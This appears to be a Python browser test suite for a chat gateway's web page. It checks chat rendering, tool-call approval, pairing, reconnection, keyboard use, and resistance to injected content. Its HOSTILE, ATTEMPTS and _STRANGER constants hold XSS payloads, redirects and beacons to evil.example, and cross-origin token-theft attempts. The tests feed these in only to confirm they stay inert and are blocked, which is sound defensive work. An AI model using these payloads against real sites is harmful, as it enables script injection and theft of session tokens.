"""The page of a gateway in a real browser: a chat, questions, hostile texts, strangers, breaks and restarts."""

from __future__ import annotations

import json
import os
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, Final

import pytest
import trio

from greenroom.gateway.rpc._scopes import ALL_SCOPES
from greenroom.gateway.trust._pairing import all_pairings
from greenroom.models import Call
from greenroom.serving import Request, Resource, Response, Tcp, open_server
from greenroom.testing import ReceivedRequest, StreamReply, open_messages_server
from tests.web.browser import BrowserPage
from tests.web.served_gateway import last_text, open_page_house, open_played_house

more = pytest.mark.skipif(
    os.environ.get("BROWSER_TESTS") != "demanded",
    reason="`make test-browser` runs the rest of the tests in a browser",
)

REPLY: Final = "It is **ready**.\n\n- one\n- two\n\nSee https://example.org/docs."
HOSTILE: Final = """<script>window.evil = 1</script>

<img src=x onerror='window.evil = 2'><svg onload='window.evil = 3'>

<iframe srcdoc="<script>parent.evil = 4</script>"></iframe>

[a link](javascript:window.evil=5) javascript:window.evil=6 data:text/html,<script>window.evil=7</script>

<a href='https://evil.example/a' onclick='window.evil = 8'>press</a><style>*{display:none}</style>

![beacon](https://evil.example/beacon.png) <link rel=stylesheet href=https://evil.example/x.css>

```
</code></pre><script>window.evil = 9</script>
```

`<b onmouseover=window.evil=10>` **<i>bold</i>** \u202egnp.exe\u202c \x07\x00\x1b[31mred\ufeff

</textarea></script><base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>"""
ELEMENTS: Final = (
    "document.querySelectorAll('script, iframe, img, link, style, base, meta, object, embed, form').length"
)
ATTEMPTS: Final = (
    "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.evil = 11'}))",
    "document.body.innerHTML = '<b>x</b>'",
    "eval('window.evil = 12')",
    "document.body.append(Object.assign(document.createElement('script'), {src: 'EVIL/x.js'}))",
    "document.body.append(Object.assign(new Image(), {src: 'EVIL/x.png'}))",
    "await fetch('EVIL/x')",
    "document.body.setAttribute('onclick', 'window.evil = 13'); document.body.click()",
)
READY: Final = "document.querySelector('.composer') && !document.querySelector('.skeleton')"
ANSWERED: Final = "document.querySelector('.said.assistant:not(.live)')"


def play(request: ReceivedRequest) -> Any:
    """Answer by the last message."""
    text = last_text(request)
    if "say something evil" in text:
        return StreamReply(answer=HOSTILE, pieces=9)
    if "write a file" in text:
        return [Call("Bash", {"command": "touch made-by-hand", "description": "<b>make</b> a file"})]
    if "take long" in text:
        return StreamReply(answer="I have begun to look at it", ending="stall", events=5, pieces=3)
    if "two things" in text:
        return [Call("sessions_spawn", {"task": "count the files", "label": "<u>files</u>"})]
    if "count the files" in text or "Your run has ended" in text:
        return "There are **42** files."
    return StreamReply(answer=REPLY, pieces=5)


@asynccontextmanager
async def opened(page: BrowserPage, home: Path) -> AsyncIterator[Any]:
    """Open the page of a new gateway."""
    async with open_played_house(home, play) as house:
        await page.go(house.address())
        await page.wait(READY)
        yield house


async def test_chat_is_had_over_the_page(page: BrowserPage, home: Path) -> None:
    async with opened(page, home) as house:
        assert await page.evaluate("location.hash") == ""
        await page.type("textarea", "hello")
        await page.wait(ANSWERED)

        assert await page.evaluate("document.querySelector('.said.user .text').innerText") == "hello"
        said = await page.evaluate("document.querySelector('.said.assistant .text').innerText")
        assert said.split() == REPLY.replace("**", "").replace("- ", "").split()
        assert await page.evaluate("document.querySelector('.said.assistant a').rel") == "noreferrer noopener"
        await page.type("textarea", "/status")
        assert "model" in (await page.wait("document.querySelector('.note.command pre')?.textContent")).lower()
        page_token = await page.evaluate("sessionStorage.getItem('greenroom.token')")
        await page.send("Page.reload")
        await page.wait(ANSWERED)

        own = {house.gateway.url, house.gateway.url.replace("http", "ws")}
        assert {each for each in page.requests() if not each.startswith(tuple(own))} == set()
        assert not [each for each in page.requests() if page_token in each or "code=" in each.partition("#")[0]]
        assert page.complaints() == []


@pytest.mark.promise("A25-f")
async def test_hostile_texts_are_text_and_nothing_leaves(page: BrowserPage, home: Path) -> None:
    hits: list[str] = []

    async def answer(request: Request) -> Response:
        hits.append(request.path)
        await trio.lowlevel.checkpoint()
        return Response(body=b"window.evil = 14", content_type="text/javascript")

    trap = Resource(path="/*", answer=answer)
    async with opened(page, home) as house, open_server([trap], listen=[Tcp()], headers={}) as server:
        (evil,) = server.addresses
        elements = await page.evaluate(ELEMENTS)
        await page.type("textarea", "say something evil")
        await page.wait(ANSWERED)
        await page.type("textarea", HOSTILE.replace("\n\n", " ")[:900])
        await page.wait("document.querySelectorAll('.said.assistant:not(.live)').length === 2")
        await page.type("textarea", "two things")
        await page.click(".tree summary")
        await page.wait("document.querySelector('.tree .report')")

        shown = await page.evaluate("document.querySelector('.said.assistant .text').textContent")
        assert "<script>window.evil = 1</script>" in shown
        assert "onerror='window.evil = 2'" in shown
        assert not {"\u202e", "\x00", "\x1b", "\ufeff"} & set(shown)
        assert "<u>files</u>" in await page.evaluate("document.querySelector('.tree .title').textContent")
        assert await page.evaluate(ELEMENTS) == elements
        assert await page.evaluate("window.evil ?? null") is None
        links = await page.evaluate("[...document.links].map((link) => link.href)")
        assert all(link.startswith(("http://", "https://")) for link in links), links
        assert page.complaints() == []

        for attempt in ATTEMPTS:
            await page.evaluate(f"(async () => {{ try {{ {attempt.replace('EVIL', evil)} }} catch {{ }} }})()")
        await page.evaluate("new Promise((done) => setTimeout(done, 0))")
        assert await page.evaluate("window.evil ?? null") is None
        assert hits == []
        blocked = [each["params"]["blockedReason"] for each in page.events if each["method"] == "Network.loadingFailed"]
        assert set(blocked) == {"csp"}
        assert house.gateway.health()["status"] == "ok"


@pytest.mark.promise("A25-f")
@more
async def test_page_of_another_origin_reads_and_changes_nothing(page: BrowserPage, browser: str, home: Path) -> None:
    """The stranger's page is open in the same browser, beside the user's own."""

    async def answer(_: Request) -> Response:
        await trio.lowlevel.checkpoint()
        return Response(body=b"<!doctype html><title>stranger</title>", content_type="text/html")

    stranger = Resource(path="/", answer=answer)
    async with opened(page, home) as house, open_server([stranger], listen=[Tcp()], headers={}) as server:
        await page.type("textarea", "hello")
        await page.wait(ANSWERED)
        token = await page.evaluate("sessionStorage.getItem('greenroom.token')")
        url = house.gateway.url
        runs = len(house.gateway.parts.registry.recent)
        context = await page.send("Target.getTargets", "")
        own = next(each for each in context["targetInfos"] if each["url"].startswith(url))
        target = await page.send(
            "Target.createTarget", "", url=server.addresses[0], browserContextId=own["browserContextId"]
        )
        attached = await page.send("Target.attachToTarget", "", targetId=target["targetId"], flatten=True)
        page.session = attached["sessionId"]
        await page.wait("document.title === 'stranger'")
        tries = await page.evaluate(_STRANGER % (json.dumps(url), json.dumps(token)))

        assert tries == {
            "fetch": "refused",
            "open": "refused",
            "health": "refused",
            "script": "refused",
            "frame": "empty",
            "socket": "refused",
            "storage": None,
        }
        assert len(house.gateway.parts.registry.recent) == runs


_STRANGER: Final = """(async (url, token) => {
  const outcome = (promise) => promise.then((found) => found, () => "refused");
  const loaded = (tag, props) => new Promise((done) => {
    const node = Object.assign(document.createElement(tag), props);
    node.onload = () => done("loaded");
    node.onerror = () => done("refused");
    document.body.append(node);
  });
  const frame = document.createElement("iframe");
  frame.src = url;
  const seen = new Promise((done) => (frame.onload = () => {
    try { done(frame.contentDocument.body.textContent ? "read" : "empty"); } catch { done("empty"); }
  }));
  document.body.append(frame);
  const socket = new Promise((done) => {
    const made = new WebSocket(url.replace("http", "ws") + "/rpc");
    made.onopen = () => made.send(JSON.stringify({type: "req", id: "1", method: "connect", params: {
      minProtocol: 1, maxProtocol: 1, client: {id: "x", version: "1"}, auth: {token}}}));
    made.onmessage = ({data}) => done(data);
    made.onclose = () => done("refused");
  });
  return {
    fetch: await outcome(fetch(url + "/").then((answer) => answer.text())),
    open: await outcome(fetch(url + "/", {mode: "no-cors"}).then((answer) => `${answer.type} ${answer.status}`)),
    health: await outcome(fetch(url + "/healthz").then((answer) => answer.text())),
    script: await loaded("script", {src: url + "/gateway/app.js", type: "module"}),
    frame: await seen,
    socket: await socket,
    storage: sessionStorage.getItem("greenroom.token"),
  };
})(%s, %s)"""


@more
async def test_question_about_a_call_is_answered_in_the_page(page: BrowserPage, home: Path) -> None:
    made = home / "workspace" / "main" / "made-by-hand"
    async with opened(page, home):
        await page.type("textarea", "please write a file")
        asked = await page.wait("document.querySelector('.asks .card.ask pre')?.textContent")
        assert "touch made-by-hand" in asked
        assert await page.evaluate("document.title") == "(1) greenroom"
        assert not made.exists()
        await page.click(".asks .card.ask .filled")
        await page.wait(ANSWERED)

        assert made.exists()
        assert await page.wait("document.title === 'greenroom'")
        assert await page.evaluate("document.querySelectorAll('.card').length") == 0
        assert page.complaints() == []


@more
async def test_people_are_paired_in_a_page_that_may(page: BrowserPage, home: Path) -> None:
    async with open_played_house(home, play) as house:
        await page.go(house.address())
        await page.wait(READY)
        await house.say("cid", "may I come in")
        with trio.fail_after(10):
            await house.channel.has_sent.wait()
        code = re.search(r"code: (\w{8})", house.channel.inner.service.shown[-1].text)
        assert code is not None
        assert await page.evaluate("document.querySelector('.card')") is None
        await page.evaluate(f"location.hash = {json.dumps(house.address(scopes=ALL_SCOPES).partition('#')[2])}")
        await page.wait("document.querySelector('.card.pairing')?.textContent.includes('cid')")
        await page.type(".card.pairing input", code[1].lower())
        await page.wait("!document.querySelector('.card')")

        assert [row.is_approved for row in all_pairings(house.gateway.parts.registry.services.pairings)] == [True]
        assert page.complaints() == []


@more
async def test_message_that_was_refused_is_sent_again_or_given_up(page: BrowserPage, home: Path) -> None:
    async with opened(page, home) as house:
        house.channel.refuses = True
        await house.say("ann", "hello from the channel")
        why = await page.wait("document.querySelector('.card.delivery p')?.textContent")
        assert "removed from this room" in why
        house.channel.refuses = False
        await page.click(".card.delivery .outlined")
        await page.wait("!document.querySelector('.card')")

        assert await page.wait("document.title === 'greenroom'")
        assert [part.text.split()[0] for part in house.channel.inner.service.shown] == ["It"]
        assert page.complaints() == []


@more
async def test_turn_is_stopped_and_sub_agents_are_shown(page: BrowserPage, home: Path) -> None:
    async with opened(page, home):
        await page.type("textarea", "this will take long")
        await page.wait("document.querySelector('.said.live .text')?.textContent.includes('I have begun')")
        await page.click(".bar .danger")
        await page.wait("document.querySelector('.note')?.textContent.includes('Stopped')")
        await page.type("textarea", "two things")
        await page.click(".tree summary")

        report = await page.wait("document.querySelector('.tree .report .text')?.textContent")
        assert report == "There are 42 files."
        await page.click(".tree .choices button")
        assert await page.wait("document.querySelector('h1').textContent === '<u>files</u>'")
        await page.wait("document.querySelector('.said.assistant .text')?.textContent.includes('42')")
        await page.click(".under .crumb")
        assert await page.wait("document.querySelector('h1').textContent === 'main'")
        await page.send("Page.reload")
        about = await page.wait("document.querySelector('.tools .step')?.textContent")
        assert about == "sessions_spawncount the files"
        assert page.complaints() == []


@more
async def test_page_is_used_with_the_keyboard_alone(page: BrowserPage, home: Path) -> None:
    async with opened(page, home):
        await page.press("i", "i")
        await page.wait("document.activeElement.localName === 'textarea'")
        await page.send("Input.insertText", text="/stat")
        await page.wait("document.querySelector('.options li[aria-selected=true]')?.textContent.startsWith('/status')")
        await page.press("Tab")
        assert await page.evaluate("document.querySelector('textarea').value") == "/status"
        await page.press("Enter", "\r", windowsVirtualKeyCode=13)
        await page.wait("document.querySelector('.note.command pre')?.textContent")
        await page.press("Escape")
        await page.press("j", "j")
        await page.wait("document.querySelector('h1').textContent === 'Research'")
        await page.press("/", "/")
        await page.send("Input.insertText", text="no such session")
        await page.wait("!document.querySelector('.sidebar > .empty').hidden")
        await page.press("Escape")
        await page.press("?", "?")
        await page.wait("document.querySelector('dialog[open]')?.textContent.includes('/subagents')")
        await page.press("Escape", windowsVirtualKeyCode=27)
        await page.wait("!document.querySelector('dialog')")
        assert page.complaints() == []


@more
async def test_break_is_told_and_what_was_written_meanwhile_is_sent_once(page: BrowserPage, home: Path) -> None:
    await page.send("Page.addScriptToEvaluateOnNewDocument", source=_SOCKETS)
    async with opened(page, home) as house:
        await page.type("textarea", "hello")
        await page.wait(ANSWERED)
        await page.evaluate("for (const socket of sockets) socket.close()")
        await page.type("textarea", "and again")
        told = await page.wait("document.querySelector('.note.gap')?.textContent")
        await page.wait("document.querySelectorAll('.said.assistant:not(.live)').length === 2")

        assert "The conversation was read again." in told
        assert await page.evaluate("document.querySelectorAll('.said.user').length") == 2
        assert len(house.gateway.parts.registry.recent) == 2
        assert await page.evaluate("document.querySelector('.banner').hidden")
        assert page.complaints() == []


_SOCKETS: Final = """(() => {
  const Real = WebSocket;
  window.sockets = [];
  window.WebSocket = class extends Real {
    constructor(...given) { super(...given); sockets.push(this); }
  };
})()"""


async def test_page_connects_again_and_a_restart_needs_a_new_code(page: BrowserPage, home: Path) -> None:
    async with open_messages_server(play) as provider:
        async with open_page_house(home, provider.url) as house:
            await page.go(house.address())
            await page.wait(READY)
            await page.type("textarea", "hello")
            await page.wait(ANSWERED)
            port = int(house.gateway.url.rpartition(":")[2])
            token = await page.evaluate("sessionStorage.getItem('greenroom.token')")
        await page.wait("document.querySelector('.banner:not([hidden])')?.textContent.includes('may be old')")
        await page.type("textarea", "said while nobody was there")
        await page.wait("document.querySelector('.fate')?.textContent.includes('connection is back')")
        async with open_page_house(home, provider.url, port=port) as house:
            assert house.gateway.parts.tokens.judge(token) is None
            await page.wait("document.querySelector('.banner.bad')?.textContent.includes('started again')")
            assert await page.evaluate("document.querySelector('.said.assistant .text').textContent") != ""
            code = house.address().partition("#")[2]
            await page.evaluate(f"location.hash = {json.dumps(code)}")
            await page.wait("document.querySelector('.note.gap')?.textContent.includes('read again')")
            await page.wait("document.querySelectorAll('.said.assistant:not(.live)').length === 2")
            assert await page.evaluate("document.querySelectorAll('.said.user').length") == 2
            assert await page.evaluate("document.querySelector('.fate')") is None
            assert await page.evaluate("sessionStorage.getItem('greenroom.token')") != token


@more
async def test_page_without_a_code_says_how_to_get_one(page: BrowserPage, home: Path) -> None:
    async with open_played_house(home, play) as house:
        await page.go(house.gateway.url)
        assert "greenroom gateway open" in await page.wait("document.querySelector('.locked')?.textContent")
        address = house.address()
        house.gateway.parts.tokens.redeem(address.partition("=")[2])
        await page.evaluate(f"location.hash = {json.dumps(address.partition('#')[2])}")

        assert "used already" in await page.wait(
            "document.querySelector('.locked')?.textContent.includes('used') && document.querySelector('.locked').textContent"
        )
        await page.evaluate(f"location.hash = {json.dumps(house.address().partition('#')[2])}")
        await page.wait(READY)
